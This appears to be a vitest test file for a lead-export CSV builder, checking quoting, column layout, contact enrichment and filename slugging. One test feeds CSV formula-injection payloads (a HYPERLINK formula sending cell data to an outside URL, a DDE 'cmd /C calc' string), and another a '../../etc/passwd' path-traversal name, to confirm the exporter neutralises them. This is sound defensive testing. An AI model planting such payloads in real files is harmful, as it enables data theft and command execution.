import { describe, expect, it } from 'vitest';
import { buildLeadsCsv, leadsCsvFilename, quoteCsvValue } from './csv';
import type { Lead } from './lead';

const lead = (overrides: Partial<Lead> = {}): Lead => ({
  name: 'Joe’s Diner',
  address: '1 Main St',
  phone: '555-0100',
  website: 'https://joes.example',
  placeId: 'p1',
  rating: 4.5,
  reviewCount: 120,
  ...overrides,
});

/** The file without the place's own columns, which follow every other column of a row. */
const seedPart = (csv: string) =>
  csv
    .split('\r\n')
    .map((row) => row.replace(/(,"(?:[^"]|"")*"){6}$/, ''))
    .join('\r\n');

describe('buildLeadsCsv', () => {
  it('ends every row with the place\'s category, street, city, state, postal code and id', () => {
    const placed = lead({ category: 'Dentist', street: '1204 Oak St', city: 'Austin', state: 'TX', postalCode: '78704' });
    const [header, row, bare] = buildLeadsCsv([placed, lead({ placeId: 'p2' })]).split('\r\n');
    expect(header).toBe(
      '"Name","Address","Phone","Website","Rating","Reviews","Category","Street","City","State","Postal Code","Place ID"',
    );
    expect(row).toBe('"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120","Dentist","1204 Oak St","Austin","TX","78704","p1"');
    expect(bare.endsWith(',"","","","","","p2"')).toBe(true);
  });


  it('adds Email and the social profiles after the six columns for an enriched search', () => {
    const enriched = lead({
      contacts: {
        emails: ['hello@joes.example', 'events@joes.example'],
        socials: { instagram: 'https://instagram.com/joes', x: 'https://x.com/joes' },
        contactPage: 'https://joes.example/contact',
      },
    });
    const rows = seedPart(buildLeadsCsv([enriched, lead({ placeId: 'p2' })], { enriched: true })).split('\r\n');
    expect(rows[0]).toBe(
      '"Name","Address","Phone","Website","Rating","Reviews","Email","Facebook","Instagram","LinkedIn","X","YouTube","TikTok","Website read"',
    );
    expect(rows[1]).toBe(
      '"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120","hello@joes.example, events@joes.example","","https://instagram.com/joes","","https://x.com/joes","","",""',
    );
    // A lead whose site gave nothing (or was not read) gets empty cells, not missing ones.
    expect(rows[2].split(',')).toHaveLength(14);
    expect(rows[2].endsWith(',"","","","","","","",""')).toBe(true);
  });

  it('says how each website read went (issue #26 item 4)', () => {
    const said = (contacts: Lead['contacts']) =>
      seedPart(buildLeadsCsv([lead({ contacts })], { enriched: true })).split('\r\n')[1].split(',').at(-1);
    expect(said({ emails: ['a@b.example'], socials: {}, status: 'found' })).toBe('"Found"');
    expect(said({ emails: [], socials: {}, status: 'none' })).toBe('"None found"');
    expect(said({ emails: [], socials: {}, status: 'not_read', reason: 'robots_txt' })).toBe('"Not read: its robots.txt does not allow it"');
    expect(said({ emails: [], socials: {}, status: 'no_website' })).toBe('"No website"');
  });

  it('leaves an unenriched export exactly as the spec says, contacts or not', () => {
    const withContacts = lead({ contacts: { emails: ['a@b.example'], socials: {} } });
    expect(buildLeadsCsv([withContacts])).toBe(buildLeadsCsv([lead()]));
    expect(seedPart(buildLeadsCsv([lead()], { enriched: false }))).toBe(
      '"Name","Address","Phone","Website","Rating","Reviews"\r\n"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120"',
    );
  });

  it('writes the header row with the spec columns, every value quoted', () => {
    expect(seedPart(buildLeadsCsv([])).split('\r\n')[0]).toBe('"Name","Address","Phone","Website","Rating","Reviews"');
  });

  it('quotes every value and keeps commas inside the field', () => {
    const rows = seedPart(buildLeadsCsv([lead({ address: '1 Main St, Springfield, IL' })])).split('\r\n');
    expect(rows[1]).toBe('"Joe’s Diner","1 Main St, Springfield, IL","555-0100","https://joes.example","4.5","120"');
  });

  it('doubles inner quotes', () => {
    const rows = buildLeadsCsv([lead({ name: 'The "Best" Pizza' })]).split('\r\n');
    expect(rows[1].startsWith('"The ""Best"" Pizza",')).toBe(true);
  });

  it('keeps line breaks inside the quoted value', () => {
    const csv = buildLeadsCsv([lead({ address: 'Unit 4\nHarbor Rd' })]);
    expect(csv).toContain('"Unit 4\nHarbor Rd"');
    // Header + one record: the record separator is CRLF, the inner break is LF only.
    expect(csv.split('\r\n')).toHaveLength(2);
  });

  it('writes empty quoted fields for missing phone, website, rating and reviews', () => {
    // The API sends '' for an unknown phone or website; an unrated place's rating and
    // reviews are absent or null (the server writes `None` as null; the generated type
    // only knows "absent").
    const unrated = { rating: null, reviewCount: null } as unknown as Partial<Lead>;
    const rows = seedPart(buildLeadsCsv([lead({ phone: '', website: '', rating: undefined, reviewCount: undefined }), lead({ phone: '', website: '', ...unrated })])).split('\r\n');
    expect(rows[2]).toBe(rows[1]);
    expect(rows[1]).toBe('"Joe’s Diner","1 Main St","","","",""');
  });

  it('keeps a zero rating rather than blanking it', () => {
    expect(quoteCsvValue(0)).toBe('"0"');
  });
});

describe('buildLeadsCsv and formulas (issue #25 item 6)', () => {
  it('writes a cell a spreadsheet would run as a formula as text, in every column', () => {
    const hostile = lead({
      name: '=HYPERLINK("https://x/?"&A2,"Open")',
      address: '@SUM(1)',
      phone: "+cmd|' /C calc'!A0",
      website: '-2+3',
      contacts: { emails: ['\t=1+1'], socials: { facebook: '\r=1+1' } },
    });
    const [, row] = seedPart(buildLeadsCsv([hostile], { enriched: true })).split('\r\n');
    expect(row).toBe(
      `"'=HYPERLINK(""https://x/?""&A2,""Open"")","'@SUM(1)","'+cmd|' /C calc'!A0","'-2+3","4.5","120","'\t=1+1","'\r=1+1","","","","","",""`,
    );
    const [, placed] = buildLeadsCsv([lead({ category: '=1+1', street: '@x' })]).split('\r\n');
    expect(placed.endsWith(`"'=1+1","'@x","","","","p1"`)).toBe(true);
  });

  it('keeps phone numbers and ratings as they are', () => {
    const [, a, b] = seedPart(buildLeadsCsv([lead({ phone: '+1 512-555-0100' }), lead({ phone: '(512) 555-0100', rating: 3 })])).split('\r\n');
    expect(a).toBe('"Joe’s Diner","1 Main St","+1 512-555-0100","https://joes.example","4.5","120"');
    expect(b).toBe('"Joe’s Diner","1 Main St","(512) 555-0100","https://joes.example","3","120"');
  });

  it('leaves the bytes of an ordinary file exactly as before', () => {
    // Written by the CSV export before formulas were neutralised (commit 0ee6c0d).
    const before =
      '"Name","Address","Phone","Website","Rating","Reviews","Email","Facebook","Instagram","LinkedIn","X","YouTube","TikTok"\r\n' +
      '"Joe’s Diner","1 Main St, Springfield, IL","+1 713 555 0100","https://joes.example","4.5","120","hello@joes.example","","https://instagram.com/joes","","","",""\r\n' +
      '"The ""Best"" Pizza","Unit 4\nHarbor Rd","","","","","","","","","","",""';
    const leads = [
      lead({
        address: '1 Main St, Springfield, IL',
        phone: '+1 713 555 0100',
        contacts: { emails: ['hello@joes.example'], socials: { instagram: 'https://instagram.com/joes' } },
      }),
      lead({ name: 'The "Best" Pizza', address: 'Unit 4\nHarbor Rd', phone: '', website: '', rating: undefined, reviewCount: undefined, placeId: 'p2' }),
    ];
    // Columns added since (how the site read went, the place's own) come after: each row
    // of the old file begins its row in the new one, byte for byte.
    const now = buildLeadsCsv(leads, { enriched: true }).split('\r\n');
    before.split('\r\n').forEach((row, i) => expect(now[i].startsWith(`${row},`)).toBe(true));
  });
});

describe('leadsCsvFilename', () => {
  it('is leads-{businessType}-{location}-{timestamp}.csv, slugified', () => {
    const at = new Date('2026-11-26T13:45:00.123Z');
    expect(leadsCsvFilename({ businessType: 'dentist', location: 'Houston, TX' }, at)).toBe('leads-dentist-houston-tx-2026-11-26T13-45-00.csv');
    expect(leadsCsvFilename({ businessType: 'real_estate_agency', location: '  Café Zürich / 8001 ' }, at)).toBe(
      'leads-real-estate-agency-cafe-zurich-8001-2026-11-26T13-45-00.csv',
    );
  });

  it('leaves out a location with nothing to keep, and never writes a path', () => {
    const at = new Date('2025-03-04T09:15:30.123Z');
    expect(leadsCsvFilename({ businessType: 'dentist', location: '' }, at)).toBe('leads-dentist-2025-03-04T09-15-30.csv');
    expect(leadsCsvFilename({ businessType: 'cafe', location: '東京' }, at)).toBe('leads-cafe-2025-03-04T09-15-30.csv');
    expect(leadsCsvFilename({ businessType: 'cafe', location: '../../etc/passwd' }, at)).toBe('leads-cafe-etc-passwd-2025-03-04T09-15-30.csv');
  });
});

describe('buildLeadsCsv with a full search', () => {
  it('writes 5,000 leads in one linear pass: a header and 5,000 rows, quickly', () => {
    const many = Array.from({ length: 5000 }, (_, i) => lead({ name: `Dentist "${i}", Houston`, placeId: `p${i}` }));
    const started = performance.now();
    const csv = buildLeadsCsv(many);
    expect(performance.now() - started).toBeLessThan(500);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(5001);
    expect(lines[5000].startsWith('"Dentist ""4999"", Houston"')).toBe(true);
  });
});
